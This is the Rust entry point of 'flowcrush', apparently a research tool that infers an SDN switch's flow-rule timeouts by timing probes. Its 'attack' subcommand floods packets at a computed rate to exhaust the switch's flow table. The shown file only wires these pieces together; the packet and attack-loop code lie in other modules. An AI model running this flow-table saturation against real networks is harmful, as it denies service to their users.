//! `flowcrush` — black-box SDN flow-table timeout inference and saturation.
//!
//! Runs the differential-RTT timing probes (`HardTimeoutProber`,
//! `IdleTimeoutProber`) to infer a switch's flow-rule timeouts without any
//! controller access, classifies the result, and can drive the minimum
//! packet-injection rate needed to exhaust the flow table.

mod cancel;
mod classifier;
mod cli;
mod clock;
mod config;
mod error;
mod field_probe;
mod hard_timeout;
mod idle_timeout;
mod mac;
mod observer;
mod packet;
mod planner;
mod results;
mod sampler;
mod stats;

use std::process::ExitCode;
use std::time::Duration;

use anyhow::Context;
use clap::Parser;
use log::info;
use pnet::util::MacAddr;

use cancel::CancelToken;
use classifier::classify;
use clock::RealClock;
use cli::{Cli, Commands};
use config::ProbeSession;
use packet::{PacketIo, RawPacketIo};
use planner::{min_attack_rate, run_attack_loop};

fn main() -> ExitCode {
    env_logger::init();
    let cli = Cli::parse();

    match run(cli) {
        Ok(()) => ExitCode::SUCCESS,
        Err(err) => {
            log::error!("{err:?}");
            // spec.md §6 calls for exit code -1 on argument error; the
            // process ABI only has unsigned exit codes, so 1 stands in
            // (see SPEC_FULL.md §9 Open Questions).
            ExitCode::from(1)
        }
    }
}

fn run(cli: Cli) -> anyhow::Result<()> {
    let cancel = CancelToken::new();
    cancel.install_ctrlc_handler().context("installing ctrl-c handler")?;

    match cli.command {
        Commands::Probe { attacker_ip, server_ip, field_probe } => {
            let mut io = RawPacketIo::new(&cli.iface, MacAddr::broadcast())
                .context("opening raw packet channel")?;

            if field_probe {
                let session = ProbeSession::new(attacker_ip, server_ip);
                let bitmask = field_probe::probe_mac_field(&mut io, &session.field_probe_config());
                info!(
                    "mac field bitmask: {:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
                    bitmask[0], bitmask[1], bitmask[2], bitmask[3], bitmask[4], bitmask[5]
                );
            }

            let (hard, idle) = run_probe(&mut io, attacker_ip, server_ip, &cancel);
            results::append_result(&cli.results, hard, idle)?;
            Ok(())
        }

        Commands::Attack { attacker_ip, server_ip, hard_timeout, idle_timeout, payload_len, max_count } => {
            let mut io = RawPacketIo::new(&cli.iface, MacAddr::broadcast())
                .context("opening raw packet channel")?;
            let category = classify(hard_timeout, idle_timeout);
            let plan = min_attack_rate(category, payload_len, max_count, idle_timeout.max(1))?;
            info!(
                "attacking at {} pps, batch size {}",
                plan.packets_per_second, plan.batch_size
            );
            run_attack_loop(&mut io, &plan, server_ip, attacker_ip, &cancel);
            Ok(())
        }

        Commands::Experiment { attacker_ip, server_ip, controller, dpids } => {
            let mut io = RawPacketIo::new(&cli.iface, MacAddr::broadcast())
                .context("opening raw packet channel")?;
            let (hard, idle) = run_probe(&mut io, attacker_ip, server_ip, &cancel);
            results::append_result(&cli.results, hard, idle)?;

            if let Some(host) = controller {
                let observer = observer::RyuObserver::new(&host);
                let total = observer.total_flow_count(&dpids)?;
                info!("ground-truth flow count across {:?}: {}", dpids, total);
            }

            Ok(())
        }
    }
}

/// Runs `HardTimeoutProber`, sleeps for the discovered timeout (or 60s if
/// none), then runs `IdleTimeoutProber` (spec.md §6 `probe` sub-command).
fn run_probe(
    io: &mut dyn PacketIo,
    attacker_ip: std::net::Ipv4Addr,
    server_ip: std::net::Ipv4Addr,
    cancel: &CancelToken,
) -> (u64, u64) {
    let session = ProbeSession::new(attacker_ip, server_ip);
    let clock = RealClock::new();

    let hard_cfg = session.hard_timeout_config();
    let hard = hard_timeout::probe_hard_timeout(io, &hard_cfg, &clock, cancel);

    let sup = if hard > 0 { hard } else { config::DEFAULT_SUP_SECONDS };
    std::thread::sleep(Duration::from_secs(sup));

    let idle_cfg = session.idle_timeout_config(sup);
    let idle = idle_timeout::probe_idle_timeout(io, &idle_cfg, &clock, cancel);

    (hard, idle)
}
